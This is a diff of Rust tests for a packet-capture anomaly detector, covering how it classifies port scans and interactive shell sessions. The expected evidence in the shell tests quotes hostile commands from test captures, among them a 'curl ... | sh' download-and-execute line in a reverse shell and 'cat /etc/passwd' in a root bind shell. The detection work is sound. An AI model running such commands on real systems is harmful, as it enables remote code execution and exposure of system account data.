@@ -120,16 +120,27 @@ fn mixed_capture_yields_exactly_the_planted_anomalies() {
             "203.0.113.10:3232/UDP",
             "text",
         ),
-        t("scan", "window", "null", "198.51.100.66/TCP", "null"),
         t(
-            "unexpected_tcp_service",
-            "end",
-            gen::SYN_SCANNER,
-            "192.0.2.77:3232/TCP",
-            "empty",
+            "scan",
+            "window",
+            "198.51.100.66",
+            "198.51.100.66/TCP",
+            "null",
         ),
-        t("scan", "window", "null", "198.51.100.67/UDP", "null"),
-        t("scan", "window", "null", "198.51.100.68/TCP", "null"),
+        t(
+            "scan",
+            "window",
+            "198.51.100.67",
+            "198.51.100.67/UDP",
+            "null",
+        ),
+        t(
+            "scan",
+            "window",
+            "198.51.100.68",
+            "198.51.100.68/TCP",
+            "null",
+        ),
         t(
             "unknown_protocol",
             "end",
@@ -188,10 +199,11 @@ fn mixed_capture_yields_exactly_the_planted_anomalies() {
     assert_eq!(per_flow.values().filter(|&&n| n == 2).count(), 1);
     assert!(per_flow.values().all(|&n| n <= 2));
     let stats = r.summary();
-    assert_eq!(stats["events"]["anomaly"], 22);
+    assert_eq!(stats["events"]["anomaly"], 21);
+    // The open port 192.0.2.77 (SYN-ACK, no data) is one of the SYN scan's 254 probes.
     assert_eq!(
         stats["classifiers"]["anomaly.scan_probes_folded"],
-        253 + 40 + 3
+        254 + 40 + 3
     );
     assert_eq!(stats["classifiers"]["anomaly.judged_early"], 1);
 }
@@ -256,10 +268,13 @@ fn evidence_of_each_guess() {
 
     let c2 = &find(&r, "interactive_session", gen::BACKDOORED)["anomaly"];
     assert_eq!(c2["interactive"]["turns"], 10);
+    // `uid=0(root)` and a `# ` prompt: a root shell.
     assert_eq!(
         find(&r, "interactive_session", gen::BACKDOORED)["severity"],
-        "high"
+        "critical"
     );
+    assert_eq!(c2["interactive"]["root"], true);
+    assert_eq!(c2["interactive"]["evidence"].as_array().unwrap().len(), 7);
 
     let beacon = &find(&r, "beacon", gen::BEACON_C2)["anomaly"]["beacon"];
     assert_eq!(beacon["count"], 8);
@@ -300,11 +315,20 @@ fn scans_are_one_event_per_source_and_window() {
         .iter()
         .find(|e| e["anomaly"]["scan"]["src_ip"] == gen::SYN_SCANNER)
         .unwrap()["anomaly"]["scan"];
-    assert_eq!(syn["kind"], "horizontal");
+    assert_eq!(
+        (syn["kind"].as_str(), syn["shape"].as_str()),
+        (Some("syn"), Some("horizontal"))
+    );
+    // The generator's SYNs are no nmap's (window 64240, no options): no tool.
+    assert_eq!(syn.get("tool"), None);
     assert_eq!(syn["target_count"], 254);
     assert_eq!(syn["host_count"], 254);
     assert_eq!(syn["answered"], 1);
-    assert_eq!(syn["probes_folded"], 253);
+    assert_eq!(
+        syn["answered_targets"],
+        serde_json::json!(["192.0.2.77:3232"])
+    );
+    assert_eq!(syn["probes_folded"], 254);
     assert_eq!(syn["ports"], serde_json::json!([3232]));
     assert_eq!(syn["sample_targets"].as_array().unwrap().len(), 10);
     assert_eq!(syn["sample_targets"][0], "192.0.2.1:3232");
@@ -320,8 +344,61 @@ fn scans_are_one_event_per_source_and_window() {
         .iter()
         .find(|e| e["anomaly"]["scan"]["src_ip"] == gen::VSCANNER)
         .unwrap()["anomaly"]["scan"];
-    assert_eq!(v["kind"], "vertical");
+    assert_eq!(
+        (v["kind"].as_str(), v["shape"].as_str()),
+        (Some("syn"), Some("vertical"))
+    );
     assert_eq!(v["ports"], serde_json::json!([2040, 3232, 8266]));
+}
+
+#[test]
+fn a_scan_names_its_scanner_as_source_and_its_one_host_as_destination() {
+    let r = run(&["read", &mixed()]);
+    let scan_of = |src: &str| {
+        *r.of_kind("anomaly", "scan")
+            .iter()
+            .find(|e| e["src_ip"] == src)
+            .unwrap()
+    };
+    // Horizontal: many hosts, so no destination.
+    let h = scan_of(gen::SYN_SCANNER);
+    assert_eq!((h["proto"].as_str(), h.get("dest_ip")), (Some("TCP"), None));
+    assert_eq!(h.get("community_id"), None);
+    // Vertical: one host, the destination.
+    let v = scan_of(gen::VSCANNER);
+    assert_eq!(
+        v["dest_ip"],
+        v["anomaly"]["scan"]["sample_targets"][0]
+            .as_str()
+            .unwrap()
+            .split(':')
+            .next()
+            .unwrap()
+    );
+    assert_eq!(v.get("dest_port"), None);
+    // ECS: source.ip and related.ip (destination.ip with one host).
+    let r = run(&["read", "--format", "ecs", &mixed()]);
+    let ecs: Vec<&Value> = r
+        .events
+        .iter()
+        .filter(|e| e["event"]["action"] == "scan")
+        .collect();
+    assert_eq!(ecs.len(), 3);
+    let h = ecs
+        .iter()
+        .find(|e| e["source"]["ip"] == gen::SYN_SCANNER)
+        .unwrap();
+    assert_eq!(h["related"]["ip"], serde_json::json!([gen::SYN_SCANNER]));
+    assert_eq!(
+        (h.get("destination"), h["network"]["transport"].as_str()),
+        (None, Some("tcp"))
+    );
+    let v = ecs
+        .iter()
+        .find(|e| e["source"]["ip"] == gen::VSCANNER)
+        .unwrap();
+    let host = v["destination"]["ip"].as_str().unwrap();
+    assert_eq!(v["related"]["ip"], serde_json::json!([gen::VSCANNER, host]));
 }
 
 #[test]
@@ -364,7 +441,8 @@ fn allowlist_silences_and_counts() {
             )
         })
         .collect();
-    assert_eq!(kinds.len(), 22 - 4);
+    // The silenced scan's open port (folded into it) is written after all.
+    assert_eq!(kinds.len(), 21 - 4 + 1);
     assert!(!kinds.contains(&("beacon".to_string(), gen::BEACON_C2.to_string())));
     let stats = r.summary();
     assert_eq!(stats["classifiers"]["anomaly.silenced"], 4);
@@ -375,6 +453,10 @@ fn allowlist_silences_and_counts() {
     );
     assert_eq!(stats["classifiers"]["anomaly.silenced.beacon"], 1);
     // The open host the scanner found is still reported: only `scan` was silenced for it.
+    assert_eq!(
+        stats["classifiers"]["anomaly.scan_probes_folded"],
+        253 + 40 + 3
+    );
     assert_eq!(
         r.of_type("anomaly")
             .filter(|e| e["dest_ip"] == gen::OPEN_HOST)
@@ -624,4 +706,185 @@ fn large_client_hello_across_segments_and_retransmission() {
         .as_str()
         .unwrap()
         .starts_with(&head));
+}
+
+/// One sign of a shell: (kind, toserver, quote).
+type Sign = (String, bool, String);
+
+/// (kind, severity, root, download_exec, the evidence) of the one finding of a capture.
+fn shell_finding(capture: &str) -> (String, String, bool, bool, Vec<Sign>) {
+    let r = run(&["read", testdata(capture).to_str().unwrap()]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    let found: Vec<&Value> = r.of_type("anomaly").collect();
+    assert_eq!(found.len(), 1, "{capture}: {found:?}");
+    let e = found[0];
+    let i = &e["anomaly"]["interactive"];
+    let evidence = i["evidence"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .map(|s| {
+                    (
+                        s["kind"].as_str().unwrap().to_string(),
+                        s["toserver"].as_bool().unwrap(),
+                        s["quote"].as_str().unwrap().to_string(),
+                    )
+                })
+                .collect()
+        })
+        .unwrap_or_default();
+    (
+        e["kind"].as_str().unwrap().into(),
+        e["severity"].as_str().unwrap().into(),
+        i["root"] == true,
+        i["download_exec"] == true,
+        evidence,
+    )
+}
+
+fn sign(kind: &str, toserver: bool, quote: &str) -> Sign {
+    (kind.into(), toserver, quote.into())
+}
+
+#[test]
+fn a_reverse_shell_running_a_download_is_critical() {
+    let (kind, severity, root, download, evidence) = shell_finding("anomaly/reverse_shell.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), root, download),
+        ("interactive_session", "critical", false, true)
+    );
+    // The victim called out to the listener on 3232: its prompt and output go towards it.
+    assert_eq!(
+        evidence,
+        [
+            sign("prompt", true, "bash-5.2$ "),
+            sign(
+                "output",
+                true,
+                "uid=1000(gw) gid=1000(gw) groups=1000(gw),20(dialout)"
+            ),
+            sign(
+                "output",
+                true,
+                "Linux gw-2 6.1.21-v8+ #1642 SMP PREEMPT aarch64 GNU/Linux"
+            ),
+            sign("command", false, "id"),
+            sign("command", false, "uname -a"),
+            sign("command", false, "curl -s http://203.0.113.20/k.sh | sh"),
+        ]
+    );
+}
+
+#[test]
+fn a_bind_shell_as_root_is_critical() {
+    let (kind, severity, root, download, evidence) = shell_finding("anomaly/bind_shell.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), root, download),
+        ("interactive_session", "critical", true, false)
+    );
+    assert_eq!(
+        evidence,
+        [
+            sign("command", true, "whoami"),
+            sign("command", true, "id"),
+            sign("command", true, "cat /etc/passwd"),
+            sign(
+                "output",
+                false,
+                "uid=0(root) gid=0(root) groups=0(root),1(bin)"
+            ),
+            sign("output", false, "root:x:0:0:root:/root:/bin/ash"),
+        ]
+    );
+}
+
+#[test]
+fn a_windows_cmd_shell_is_high() {
+    let (kind, severity, root, download, evidence) = shell_finding("anomaly/cmd_exe.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), root, download),
+        ("interactive_session", "high", false, false)
+    );
+    assert_eq!(
+        evidence[..4],
+        [
+            sign("command", true, "whoami"),
+            sign("command", true, "ipconfig"),
+            sign(
+                "output",
+                false,
+                "Microsoft Windows [Version 10.0.19045.4046]"
+            ),
+            sign("prompt", false, "C:\\\\Windows\\\\system32>"),
+        ]
+    );
+}
+
+#[test]
+fn a_line_based_sensor_feed_is_no_shell() {
+    let (kind, severity, _, _, evidence) = shell_finding("anomaly/sensor_feed.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), evidence.len()),
+        ("unexpected_tcp_service", "medium", 0)
+    );
+    let r = run(&[
+        "read",
+        testdata("anomaly/sensor_feed.pcap").to_str().unwrap(),
+    ]);
+    assert_eq!(
+        r.of_type("anomaly").next().unwrap()["anomaly"]["protocol_guess"],
+        "text"
+    );
+}
+
+#[test]
+fn no_interactive_session_on_ota_esphome_or_mdt_captures() {
+    let captures: Vec<_> = common::bundled_captures(common::Captures::WithReal)
+        .into_iter()
+        .filter(|p| {
+            let p = p.to_string_lossy();
+            ["/ota/", "/mdt/", "/mdns/", "demo.pcapng"]
+                .iter()
+                .any(|d| p.contains(d))
+        })
+        .collect();
+    assert!(captures.len() >= 25, "{captures:?}");
+    for cap in &captures {
+        let r = run(&["read", cap.to_str().unwrap()]);
+        assert_eq!(r.code, Some(0), "{}: {}", cap.display(), r.stderr);
+        assert_eq!(
+            r.of_kind("anomaly", "interactive_session").len(),
+            0,
+            "{}",
+            cap.display()
+        );
+    }
+}
+
+#[test]
+fn a_lone_nmap_syn_probe_is_a_probe() {
+    // Only 3232 of nmap's five ports is watched by default: one probe, open, nmap's SYN.
+    let r = run(&[
+        "read",
+        common::real_capture("anomaly/nmap_syn_3230_3234.pcap")
+            .to_str()
+            .unwrap(),
+    ]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    let found: Vec<&Value> = r.of_type("anomaly").collect();
+    assert_eq!(found.len(), 1, "{found:?}");
+    let e = found[0];
+    assert_eq!(
+        (
+            e["kind"].as_str(),
+            e["severity"].as_str(),
+            e["src_ip"].as_str(),
+            e["dest_port"].as_u64()
+        ),
+        (Some("probe"), Some("low"), Some("10.32.32.1"), Some(3232))
+    );
+    assert_eq!(
+        e["anomaly"]["detail"],
+        "10.32.32.1 sent nmap's SYN-scan probe to TCP 10.32.32.2:3232: open"
+    );
 }
